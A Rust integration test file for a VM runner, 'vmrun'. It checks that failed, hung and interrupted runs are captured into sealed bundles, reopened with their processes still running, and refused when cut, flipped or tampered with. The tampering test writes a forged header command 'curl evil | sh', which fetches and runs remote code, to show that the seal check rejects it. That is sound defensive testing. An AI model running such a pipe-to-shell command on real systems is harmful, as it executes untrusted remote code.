//! Failing runs captured and opened again, against real VMs: `vmrun test
//! --capture-failures DIR` saves the VM of a run that failed or hung into a bundle, and
//! `vmrun open` resumes it as it was (files, processes, the hung command), here or in another
//! home that imported the image; a damaged bundle is refused.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use vmrun::bundle;

fn vmrun(home: &Path, args: &[&str]) -> Command {
    let mut cmd = Command::new(common::VMRUN);
    cmd.args(args).env("VMRUN_HOME", home);
    cmd
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// The bundles in `dir`, sorted.
fn bundles(dir: &Path) -> Vec<PathBuf> {
    let mut found: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "vmrun"))
        .collect();
    found.sort();
    found
}

/// `vmrun test` in an empty project, capturing failures into `into`.
fn failing_runs(into: &Path, args: &[&str]) -> Output {
    let project = tempfile::tempdir().unwrap();
    let home = common::test_home();
    let mut cmd = vmrun(&home, &["test", "--image", common::baked_image()]);
    cmd.arg("--capture-failures")
        .arg(into)
        .args(args)
        .current_dir(project.path());
    cmd.output().unwrap()
}

fn open(home: &Path, bundle: &Path, command: &[&str]) -> Output {
    vmrun(home, &["open"])
        .arg(bundle)
        .arg("--")
        .args(command)
        .output()
        .unwrap()
}

#[test]
fn a_failed_run_opens_with_its_files_and_the_processes_it_left_running() {
    let token = common::unique_token();
    let into = tempfile::tempdir().unwrap();
    // Two runs at once, both failing: each is captured under its own id. The command leaves
    // a marker and a process detached from its session (once it is: until then, it would
    // end with the command's process group), then fails.
    let script = format!(
        "echo {token} > /var/tmp/marker; \
         setsid sleep 600 </dev/null >/dev/null 2>&1 & pid=$!; echo $pid > /var/tmp/left-running; \
         until tr '\\0' ' ' < /proc/$pid/cmdline | grep -q 'sleep 600'; do sleep 0.1; done; \
         exit 3"
    );
    let out = failing_runs(
        into.path(),
        &["--repeat", "2", "--jobs", "2", "--", "sh", "-c", &script],
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    let found = bundles(into.path());
    assert_eq!(
        found.len(),
        2,
        "one bundle per failed run: {found:?}\n{err}"
    );
    assert!(err.contains("open it with: vmrun open"), "{err}");

    let bundle = &found[0];
    let before = common::sha256_file(bundle);
    let check = "cat /var/tmp/marker; pid=$(cat /var/tmp/left-running); \
                 kill -0 $pid && tr '\\0' ' ' < /proc/$pid/cmdline; echo";
    for round in 0..2 {
        let opened = open(&common::test_home(), bundle, &["sh", "-c", check]);
        let said = text(&opened.stdout);
        assert!(
            opened.status.success(),
            "open {round} failed: {}\n{said}",
            text(&opened.stderr)
        );
        assert!(said.contains(&token), "the marker is there: {said}");
        assert!(said.contains("sleep 600"), "the process still runs: {said}");
    }
    assert_eq!(
        common::sha256_file(bundle),
        before,
        "opening changes no byte"
    );

    // What is in it, for people and for programs.
    let info = vmrun(&common::test_home(), &["open", "--info", "--json"])
        .arg(bundle)
        .output()
        .unwrap();
    assert!(info.status.success(), "{}", text(&info.stderr));
    let json: serde_json::Value = serde_json::from_slice(&info.stdout).unwrap();
    assert_eq!(json["exit_code"], 3);
    assert_eq!(json["seal"], "verified");
    assert_eq!(json["command"][2], script);
    let run_id = json["run_id"].as_str().unwrap();
    assert_eq!(bundle.file_stem().unwrap(), run_id);
    let info = vmrun(&common::test_home(), &["open", "--info"])
        .arg(bundle)
        .output()
        .unwrap();
    assert!(
        text(&info.stdout).contains(run_id),
        "{}",
        text(&info.stdout)
    );
}

#[test]
fn a_hung_command_is_still_hung_when_opened_and_moves_to_a_home_that_imported_the_image() {
    let into = tempfile::tempdir().unwrap();
    let out = failing_runs(
        into.path(),
        &[
            "--timeout",
            "3s",
            "--",
            "sh",
            "-c",
            "echo $$ > /var/tmp/hung; exec sleep 900",
        ],
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(124), "{err}");
    let found = bundles(into.path());
    assert_eq!(found.len(), 1, "{err}");
    let bundle = &found[0];

    let check = "pid=$(cat /var/tmp/hung); tr '\\0' ' ' < /proc/$pid/cmdline; echo";
    let opened = open(&common::test_home(), bundle, &["sh", "-c", check]);
    let said = text(&opened.stdout);
    assert!(opened.status.success(), "{}", text(&opened.stderr));
    assert!(
        said.contains("sleep 900"),
        "the hung command is there: {said}"
    );

    // Another home: without the image, the bundle says which one to import and how.
    let other = tempfile::tempdir().unwrap();
    let missing = open(other.path(), bundle, &["true"]);
    let why = text(&missing.stderr);
    assert_eq!(missing.status.code(), Some(240), "{why}");
    let key = serde_json::from_slice::<serde_json::Value>(
        &vmrun(&common::test_home(), &["open", "--info", "--json"])
            .arg(bundle)
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap()["image"]["key"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(why.contains(&key) && why.contains("images import"), "{why}");

    // Once the image is imported there, the bundle opens as it did here.
    let export = other.path().join("image.vmimg");
    let exported = vmrun(
        &common::test_home(),
        &["images", "export", common::baked_image(), "-o"],
    )
    .arg(&export)
    .output()
    .unwrap();
    assert!(exported.status.success(), "{}", text(&exported.stderr));
    let home = other.path().join("home");
    let imported = vmrun(&home, &["images", "import"])
        .arg(&export)
        .output()
        .unwrap();
    assert!(imported.status.success(), "{}", text(&imported.stderr));
    let opened = open(&home, bundle, &["sh", "-c", check]);
    assert!(opened.status.success(), "{}", text(&opened.stderr));
    assert!(text(&opened.stdout).contains("sleep 900"));
}

#[test]
fn cut_and_flipped_bundles_are_refused() {
    let into = tempfile::tempdir().unwrap();
    let out = failing_runs(into.path(), &["--", "false"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let bundle = &bundles(into.path())[0];
    let bytes = std::fs::read(bundle).unwrap();
    let broken = tempfile::tempdir().unwrap();
    let mut flipped = bytes.clone();
    let middle = flipped.len() / 2;
    flipped[middle] ^= 0x40;
    let cases = [
        ("cut", bytes[..bytes.len() * 2 / 3].to_vec()),
        ("flipped", flipped),
        ("not a bundle", b"#!/bin/sh\necho hi\n".to_vec()),
    ];
    // Tampered: the header changed (its command made another) and sealed again without the
    // image's key, by someone who does not hold the image.
    let tampered = broken.path().join("tampered.vmrun");
    let parts = tempfile::tempdir().unwrap();
    let client_key = vmrun::store::Store::new(&vmrun::paths::Home::under(&common::test_home()))
        .get(&vmrun::name::ImageName::new(common::baked_image()).unwrap())
        .unwrap()
        .client_key();
    let key = bundle::SealKey::from_client_key(&std::fs::read(client_key).unwrap());
    let quiet = |_| {};
    let mut header = bundle::extract(bundle, &key, parts.path(), &quiet).unwrap();
    header.command = vec!["sh".into(), "-c".into(), "curl evil | sh".into()];
    let (disk, state) = (parts.path().join("disk.qcow2"), parts.path().join("state"));
    let other = bundle::SealKey::from_client_key(b"not the image's key");
    bundle::write(&tampered, &header, &disk, &state, &other, &quiet).unwrap();
    let out = open(&common::test_home(), &tampered, &["true"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(240), "{err}");
    assert!(err.contains("its seal does not"), "{err}");
    let info = vmrun(&common::test_home(), &["open", "--info"])
        .arg(&tampered)
        .output()
        .unwrap();
    assert_eq!(info.status.code(), Some(240));
    assert!(
        text(&info.stdout).contains("DOES NOT MATCH"),
        "{}",
        text(&info.stdout)
    );

    for (what, content) in cases {
        let path = broken
            .path()
            .join(format!("{}.vmrun", what.replace(' ', "-")));
        std::fs::write(&path, content).unwrap();
        let out = open(&common::test_home(), &path, &["true"]);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(240), "{what}: {err}");
        assert!(err.contains("cannot be opened"), "{what}: {err}");
    }
}

#[test]
fn an_interrupted_run_is_captured_with_its_command_still_running() {
    use std::io::{BufRead, BufReader};
    let into = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    let mut child = vmrun(
        &common::test_home(),
        &["test", "--image", common::baked_image()],
    )
    .arg("--capture-failures")
    .arg(into.path())
    .args([
        "--",
        "sh",
        "-c",
        "echo started; echo $$ > /var/tmp/interrupted; exec sleep 900",
    ])
    .current_dir(project.path())
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::piped())
    .spawn()
    .unwrap();
    // Once the command runs, vmrun is asked to stop, as Ctrl-C or a CI's cancel would.
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    assert_eq!(lines.next().unwrap().unwrap(), "started");
    // SAFETY: kill(2) of the vmrun this test started.
    assert_eq!(unsafe { libc::kill(child.id() as i32, libc::SIGINT) }, 0);
    let out = child.wait_with_output().unwrap();
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(130), "{err}");
    let found = bundles(into.path());
    assert_eq!(found.len(), 1, "{err}");

    let check = "pid=$(cat /var/tmp/interrupted); tr '\\0' ' ' < /proc/$pid/cmdline; echo";
    let opened = open(&common::test_home(), &found[0], &["sh", "-c", check]);
    assert!(opened.status.success(), "{}", text(&opened.stderr));
    assert!(
        text(&opened.stdout).contains("sleep 900"),
        "{}",
        text(&opened.stdout)
    );
}
